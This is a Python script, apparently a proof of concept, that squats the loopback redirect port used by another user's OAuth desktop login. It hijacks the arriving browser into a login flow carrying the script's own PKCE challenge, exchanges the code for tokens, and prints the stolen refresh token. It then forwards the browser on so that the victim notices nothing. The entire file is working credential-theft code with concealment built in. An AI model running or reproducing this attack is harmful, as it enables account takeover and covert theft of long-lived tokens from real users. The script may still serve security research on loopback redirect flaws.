"""Listens at the address of another user's login and runs a login of its own with the browser that arrives.

squatter.py ISSUER CLIENT_ID PORT ADDRESS…

ADDRESS is ::1, ::, 0.0.0.0 or 127.0.0.1; `::+` also takes IPv4. Prints `BOUND` or `REFUSED` for each. A
browser that comes is sent to the issuer with a challenge of this program's own, and back to the same place; what the issuer
gives for the code is printed as `STOLE`, and the browser goes on to 127.0.0.1, so that its user notices nothing.
"""

import base64
import hashlib
import http.server
import json
import secrets
import socket
import sys
import threading
import urllib.error
import urllib.parse
import urllib.request

issuer, client_id, port, addresses = sys.argv[1], sys.argv[2], int(sys.argv[3]), sys.argv[4:]
verifier = secrets.token_urlsafe(48)
challenge = base64.urlsafe_b64encode(hashlib.sha256(verifier.encode()).digest()).rstrip(b"=").decode()
mine = secrets.token_hex(8)
lock = threading.Lock()


def log(*words):
    with lock:
        print(*words, flush=True)


class Handler(http.server.BaseHTTPRequestHandler):
    def log_message(self, *_):
        pass

    def do_GET(self):
        query = dict(urllib.parse.parse_qsl(urllib.parse.urlsplit(self.path).query))
        log("VISITED", self.headers.get("Host"), self.path.split("?")[0], *sorted(query))
        redirect = f"http://localhost:{port}"
        if "code" in query and query.get("state") != mine:
            # Of the login itself: of no use without its verifier, so it goes where it was meant to go.
            log("CODE", query["code"])
            where = f"http://127.0.0.1:{port}{self.path}"
        elif "code" not in query:
            where = f"{issuer}/authorize?" + urllib.parse.urlencode({
                "response_type": "code", "client_id": client_id, "redirect_uri": redirect, "state": mine,
                "scope": "openid offline_access", "code_challenge": challenge, "code_challenge_method": "S256",
            })
        else:
            form = {"grant_type": "authorization_code", "client_id": client_id, "code": query["code"],
                    "redirect_uri": redirect, "code_verifier": verifier}
            try:
                with urllib.request.urlopen(f"{issuer}/token", urllib.parse.urlencode(form).encode()) as response:
                    tokens = json.load(response)
                    log("STOLE", tokens["refresh_token"])
            except urllib.error.HTTPError as error:
                log("FAILED", error.code)
            where = f"http://127.0.0.1:{port}/"
        self.send_response(302)
        self.send_header("Location", where)
        self.send_header("Content-Length", "0")
        self.end_headers()


def listen(address):
    dual = address.endswith("+")
    address = address.rstrip("+")
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    listener = socket.socket(family)
    listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
    if family == socket.AF_INET6:
        listener.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 0 if dual else 1)
    listener.bind((address, port))
    listener.listen(16)
    server = http.server.ThreadingHTTPServer((address, port), Handler, bind_and_activate=False)
    server.socket.close()
    server.socket = listener
    threading.Thread(target=server.serve_forever, daemon=True).start()


for address in addresses:
    try:
        listen(address)
        log("BOUND", address, port)
    except OSError as error:
        log("REFUSED", address, port, error.strerror)
log("READY")
threading.Event().wait()
